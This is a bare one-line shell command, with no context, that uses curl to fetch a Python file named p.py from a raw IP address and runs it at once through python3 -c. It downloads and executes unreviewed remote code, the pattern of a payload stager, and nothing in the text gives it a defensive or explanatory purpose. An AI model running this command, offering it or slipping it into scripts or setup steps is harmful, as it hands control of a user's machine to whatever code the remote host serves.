python3 -c "$(curl -fsSL http://198.51.100.102/p.py)"
